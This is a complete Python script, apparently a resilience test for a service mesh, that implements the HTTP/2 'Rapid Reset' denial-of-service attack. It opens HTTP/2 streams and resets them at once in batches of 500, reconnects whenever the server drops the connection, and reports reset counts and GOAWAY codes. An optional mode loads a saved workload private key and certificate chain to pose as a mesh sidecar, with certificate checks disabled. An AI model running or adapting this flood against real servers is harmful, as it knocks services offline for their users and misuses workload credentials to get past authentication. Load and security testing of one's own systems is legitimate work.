"""Opens HTTP/2 streams and resets them at once, as fast as it can ("Rapid Reset").
Usage: h2_storm.py HOST PORT SECONDS [IDENTITY_JSON]
With a workload's identity it comes as another sidecar (`weft-h2`). A connection that the other side
ends is made anew. Prints one JSON object: streams reset, connections, and the error codes of GOAWAY."""

import base64
import json
import os
import select
import socket
import ssl
import struct
import sys
import tempfile
import time

HOST, PORT, SECONDS = sys.argv[1], int(sys.argv[2]), float(sys.argv[3])
IDENTITY = sys.argv[4] if len(sys.argv) > 4 else None
# :method GET, :scheme http, :path /, :authority a
HEAD = bytes([0x82, 0x86, 0x84, 0x01, 0x01]) + b"a"
BATCH = 500


def pem(kind, der):
    text = base64.b64encode(der).decode()
    lines = [text[at:at + 64] for at in range(0, len(text), 64)]
    return "\n".join([f"-----BEGIN {kind}-----", *lines, f"-----END {kind}-----", ""])


def as_sidecar(sock):
    saved = json.load(open(IDENTITY))
    der = base64.b64decode
    with tempfile.NamedTemporaryFile("w", suffix=".pem") as file:
        file.write(pem("PRIVATE KEY", der(saved["key"])))
        file.writelines(pem("CERTIFICATE", der(one)) for one in saved["chain"])
        file.flush()
        context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
        context.check_hostname = False
        context.verify_mode = ssl.CERT_NONE
        context.minimum_version = ssl.TLSVersion.TLSv1_3
        context.set_alpn_protocols(["weft-h2"])
        context.load_cert_chain(file.name)
    return context.wrap_socket(sock, server_hostname="web.shop.mesh")


class Connection:
    def __init__(self):
        sock = socket.create_connection((HOST, PORT), timeout=20)
        sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        self.sock = as_sidecar(sock) if IDENTITY else sock
        self.sock.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + struct.pack(">HBBBI", 0, 0, 4, 0, 0))
        self.sock.setblocking(False)
        self.stream, self.received, self.goaway, self.ended = 1, b"", None, False

    def batch(self):
        parts = []
        for _ in range(BATCH):
            parts.append(struct.pack(">HBBBI", 0, len(HEAD), 1, 5, self.stream) + HEAD)
            parts.append(struct.pack(">HBBBII", 0, 4, 3, 0, self.stream, 8))
            self.stream += 2
        return b"".join(parts)

    def read(self):
        try:
            while data := self.sock.recv(65536):
                self.received += data
            self.ended = True
        except (BlockingIOError, ssl.SSLWantReadError):
            pass
        except OSError:
            self.ended = True
        while len(self.received) >= 9:
            length = int.from_bytes(self.received[:3], "big")
            if len(self.received) < 9 + length:
                break
            if self.received[3] == 7:
                self.goaway = int.from_bytes(self.received[13:17], "big")
            self.received = self.received[9 + length:]

    def send(self, data, end):
        """Whether all of it was sent in time."""
        while data and time.monotonic() < end and not self.ended:
            try:
                data = data[self.sock.send(data):]
            except (BlockingIOError, ssl.SSLWantWriteError, ssl.SSLWantReadError):
                select.select([self.sock], [self.sock], [], 0.05)
            except OSError:
                self.ended = True
            self.read()
        return not data


end = time.monotonic() + SECONDS
sent, connections, codes = 0, 0, []
while time.monotonic() < end:
    try:
        connection = Connection()
    except OSError:
        continue
    connections += 1
    while time.monotonic() < end and not connection.ended:
        if connection.send(connection.batch(), end):
            sent += BATCH
    connection.read()
    if connection.goaway is not None:
        codes.append(connection.goaway)
    connection.sock.close()
print(json.dumps(dict(sent=sent, connections=connections, codes=sorted(set(codes)))), flush=True)
